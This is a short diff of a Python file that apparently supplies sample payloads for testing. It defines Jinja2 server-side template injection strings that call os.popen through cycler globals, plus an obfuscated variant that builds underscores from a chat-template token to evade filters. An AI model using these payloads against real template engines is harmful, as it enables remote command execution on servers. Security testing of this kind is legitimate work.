@@ -8,7 +8,7 @@ from sample_set import COMMAND, Sample, written
 
 POPEN = "{{ cycler.__init__.__globals__.os.popen('" + COMMAND + "').read() }}"
 ALIASED = (
-    "{% set u = '<|im_start|>'[5] %}{% set d = u ~ u %}{% set ns = namespace() %}"
+    "{% set u = '<|im_start|>'[4] %}{% set d = u ~ u %}{% set ns = namespace() %}"
     "{% set ns.strip = cycler[d ~ 'init' ~ d][d ~ 'globals' ~ d]['os']['popen'] %}{{ ns.strip('"
     + COMMAND
     + "').read() }}"
